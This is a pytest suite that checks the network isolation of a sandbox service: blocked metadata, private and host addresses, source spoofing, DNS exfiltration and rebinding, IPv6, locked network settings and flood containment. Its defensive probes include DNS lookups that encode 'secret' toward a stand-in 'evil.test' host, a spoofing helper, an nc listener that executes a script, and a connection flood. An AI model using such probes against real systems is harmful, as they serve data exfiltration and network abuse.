"""What a sandbox with a network must not reach, each beside something that it does reach."""

from __future__ import annotations

import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.framework import internet
from tests.framework.daemon import Daemon
from tests.framework.internet import DNS, GOOD, HOST, METADATA_ALL, PRIVATE, Internet
from tests.framework.leaks import LeakCheck
from tests.framework.networks import logged, lookup, networked_daemon, part_of, tcp
from tests.security.probing import build, put

CLOSED = [*METADATA_ALL, *PRIVATE]
PORT = 8081
WIDE = {"allow": ["0.0.0.0/0", "*.test", "example.org"]}
"""Everything that a list can name at its widest."""


@pytest.fixture(scope="module")
def world() -> Iterator[Internet]:
    with internet.running() as found:
        yield found


@pytest.fixture(scope="module")
def networked(world: Internet, leak_check: LeakCheck, busybox: Path) -> Iterator[Daemon]:
    with networked_daemon(world, leak_check, busybox) as daemon:
        yield daemon


@pytest.fixture(scope="module")
def spoof(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return build("spoof", tmp_path_factory.mktemp("spoof"))


@pytest.fixture(scope="module")
def wide(networked: Daemon, spoof: Path) -> Iterator[str]:
    with networked.sandbox("busybox", network=WIDE) as box:
        assert put(networked, box, "/spoof", spoof.read_bytes(), mode="0755").is_success
        yield box


@pytest.fixture(params=["0", "65534"])
def user(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def service(world: Internet) -> Iterator[None]:
    """Something that listens on every address of the host."""
    script = f"""
import socket
server = socket.create_server(("0.0.0.0", {PORT}))
print("ready", flush=True)
while True:
    server.accept()[0].sendall(b"the host\\n")
"""
    command = [*world.enter, sys.executable, "-c", script]
    with subprocess.Popen(command, stdout=subprocess.PIPE) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == b"ready\n"
        yield
        process.kill()


@pytest.mark.parametrize("address", CLOSED)
def test_closed_address_is_not_reached(
    address: str, user: str, networked: Daemon, wide: str
) -> None:
    assert tcp(networked, wide, GOOD, user=user) == f"{GOOD}:80"
    assert tcp(networked, wide, address, user=user) == ""


@pytest.mark.parametrize("address", CLOSED)
def test_control_closed_address_is_reached_where_an_entry_lies_within(
    address: str, networked: Daemon
) -> None:
    with networked.sandbox("busybox", network={"allow": [f"{address}:80"]}) as box:
        assert tcp(networked, box, address) == f"{address}:80"


@pytest.mark.parametrize("network", [WIDE, "full"])
def test_host_is_not_reached_on_any_of_its_addresses(
    network: object, world: Internet, networked: Daemon, service: None
) -> None:
    gateway = "100.126.0.4"
    uplink = [
        one.split()[3].partition("/")[0]
        for one in world.on_host("ip", "-o", "-4", "addr").splitlines()
        if " sbx" in one
    ]
    assert len(uplink) == 1
    for address in (HOST, *uplink):
        script = f"nc -w 2 {address} {PORT} </dev/null"
        assert world.on_host("busybox", "sh", "-c", script) == "the host\n"
    port = int(networked.base_url.rpartition(":")[2])
    with networked.sandbox("busybox", network=network) as box:
        assert tcp(networked, box, GOOD) == f"{GOOD}:80"
        for address in (HOST, *uplink, gateway, "127.0.0.1", "0.0.0.0", "127.9.9.9"):
            for number in (PORT, port, 22):
                assert tcp(networked, box, address, number) == ""


def test_other_sandbox_is_not_reached(networked: Daemon) -> None:
    with (
        networked.sandbox("busybox", network="full") as server,
        networked.sandbox("busybox", network="full") as client,
        networked.sandbox("busybox", network={"allow": ["100.126.0.0/16"]}) as lister,
    ):
        address = networked.exec(server, "hostname -i | cut -d' ' -f1; ip -4 -o addr show eth0")
        own = address["stdout"].split("inet ")[1].partition("/")[0]
        networked.exec(server, "printf '#!/bin/sh\\necho mine\\n' >/s; chmod 755 /s")
        networked.exec(server, "nc -ll -p 7001 -e /s >/dev/null 2>&1 & usleep 100000")
        assert tcp(networked, server, own, 7001) == "mine"
        assert tcp(networked, client, own, 7001) == ""
        assert tcp(networked, lister, own, 7001) == ""


@pytest.mark.parametrize("source", ["100.126.0.8", "100.126.0.4", "203.0.113.2", "127.0.0.1"])
def test_source_that_is_not_its_own_gets_nowhere(
    source: str, user: str, world: Internet, networked: Daemon, wide: str
) -> None:
    shown = networked.exec(wide, "ip -4 -o addr show eth0")["stdout"]
    own = shown.split("inet ")[1].partition("/")[0]
    assert own != source
    world.queries()
    networked.exec(wide, ["/spoof", "udp", source, DNS, "53"], user=user)
    # What was sent first would be there first.
    assert networked.exec(wide, ["/spoof", "udp", own, DNS, "53"], user=user)["stdout"] == "ok\n"
    lookup(networked, wide, "evil.test", server=DNS)
    assert [one for one in world.queries() if one == "spoofed.test"] == ["spoofed.test"]


@pytest.mark.parametrize("kind", ["raw", "packet"])
def test_raw_and_packet_sockets_are_refused(
    kind: str, user: str, networked: Daemon, wide: str, spoof: Path
) -> None:
    host = subprocess.run([spoof, kind], capture_output=True, text=True, check=True)
    assert host.stdout == "ok\n"
    said = networked.exec(wide, ["/spoof", kind], user=user)["stdout"]
    assert said in ("EPERM\n", "EACCES\n", "EAFNOSUPPORT\n")


def test_gateway_is_a_fixed_neighbour(networked: Daemon, wide: str) -> None:
    """0x6 is ATF_COM | ATF_PERM, linux/if_arp.h: nothing said over ARP changes it."""
    table = networked.exec(wide, "cat /proc/net/arp")["stdout"].splitlines()[1:]
    assert [line.split()[2] for line in table] == ["0x6"]


def test_name_that_is_not_allowed_never_leaves_the_node(world: Internet, networked: Daemon) -> None:
    with networked.sandbox("busybox", network={"allow": ["example.org"]}) as box:
        world.queries()
        for name in ("c2vjcmv0.evil.test", "c2vjcmv0.example.org", "x" * 60 + ".test"):
            assert lookup(networked, box, name) == []
            assert lookup(networked, box, name, "txt") == []
            assert lookup(networked, box, name, server=DNS) == []
        assert lookup(networked, box, "example.org") == [GOOD]
        assert lookup(networked, box, "example.org", "txt") == []
        assert world.queries() == ["example.org"]
        assert not logged(networked, box, kind="dns", name="c2vjcmv0.evil.test")["allowed"]


def test_name_does_not_lead_to_what_is_closed(networked: Daemon) -> None:
    allow = ["rebind.test", "inside.test"]
    with networked.sandbox("busybox", network={"allow": allow}) as box:
        assert lookup(networked, box, "rebind.test") == [GOOD]
        assert lookup(networked, box, "inside.test") == []
        assert tcp(networked, box, GOOD) == f"{GOOD}:80"
        for address in CLOSED:
            assert tcp(networked, box, address) == ""
    # Control: the same name, where its network is listed.
    with networked.sandbox("busybox", network={"allow": [*allow, "10.9.8.0/24:1"]}) as box:
        assert lookup(networked, box, "inside.test") == [PRIVATE[0]]
        assert tcp(networked, box, PRIVATE[0]) == f"{PRIVATE[0]}:80"


def test_there_is_no_ipv6(networked: Daemon, wide: str) -> None:
    addresses = networked.exec(wide, "cat /proc/net/if_inet6")["stdout"].splitlines()
    assert {line.split()[-1] for line in addresses} <= {"lo"}
    routes = networked.exec(wide, "cat /proc/net/ipv6_route")["stdout"].splitlines()
    assert {line.split()[-1] for line in routes} <= {"lo"}
    assert lookup(networked, wide, "example.org", "aaaa") == []
    assert lookup(networked, wide, "example.org") == [GOOD]


@pytest.mark.parametrize(
    "command",
    [
        "ip link set eth0 down",
        "ip link set eth0 mtu 9000",
        "ip addr add 100.126.0.200/32 dev eth0",
        "ip route add 10.0.0.0/8 via 100.126.0.4",
        "ip route del default",
    ],
)
def test_network_cannot_be_configured(command: str, networked: Daemon, wide: str) -> None:
    answer = networked.exec(wide, command)
    assert answer["exit_code"] != 0
    assert "not permitted" in answer["stderr"] + answer["stdout"], answer
    assert tcp(networked, wide, GOOD) == f"{GOOD}:80"


@pytest.mark.parametrize(
    "name",
    ["ipv4/ip_forward", "ipv4/conf/eth0/arp_ignore", "ipv4/ip_nonlocal_bind",
     "ipv6/conf/eth0/disable_ipv6", "ipv4/ping_group_range"],
)  # fmt: skip
def test_sysctl_of_the_network_is_read_only(name: str, networked: Daemon, wide: str) -> None:
    path = f"/proc/sys/net/{name}"
    answer = networked.exec(wide, f"cat {path} && cat {path} >{path}")
    assert answer["stdout"] != ""
    assert "Read-only file system" in answer["stderr"] or "ermission denied" in answer["stderr"]


def test_flood_costs_its_sandbox_alone(networked: Daemon, wide: str) -> None:
    """Of names and of connections, from as many processes as a sandbox has by default."""
    with networked.sandbox("busybox", network={"allow": ["example.org"]}) as flooder:
        script = """
            for i in $(seq 40); do
                (while true; do nslookup -type=a x$i.evil.test; nc -w 1 198.51.100.66 $i; done) \
                    >/dev/null 2>&1 </dev/null &
            done
        """
        networked.exec(flooder, script)
        for _ in range(5):
            assert lookup(networked, wide, "example.org") == [GOOD]
            assert tcp(networked, wide, GOOD) == f"{GOOD}:80"
        answer = networked.http.get(f"/v1/sandboxes/{flooder}/egress")
        assert len(answer.json()["entries"]) <= 512


def test_parts_of_the_network_have_no_rights_on_the_host(networked: Daemon) -> None:
    def status(part: str) -> dict[str, str]:
        text = Path(f"/proc/{part_of(networked, part)}/status").read_text()
        return dict(line.split(":\t", 1) for line in text.splitlines() if ":\t" in line)

    router, resolver = status("router"), status("resolver")
    for one in (router, resolver):
        assert "0" not in one["Uid"].split()
        assert "0" not in one["Gid"].split()
        assert one["Groups"].strip() == ""
        assert one["NoNewPrivs"] == "1"
    assert int(resolver["CapEff"], 16) == int(resolver["CapPrm"], 16) == 0
    assert resolver["Seccomp"] == "2"
    assert (
        int(router["CapEff"], 16) == 1 << 12 | 1 << 21
    )  # NET_ADMIN, SYS_ADMIN: linux/capability.h
    own = Path("/proc/self/ns/user").readlink()
    assert Path(f"/proc/{part_of(networked, 'router')}/ns/user").readlink() != own
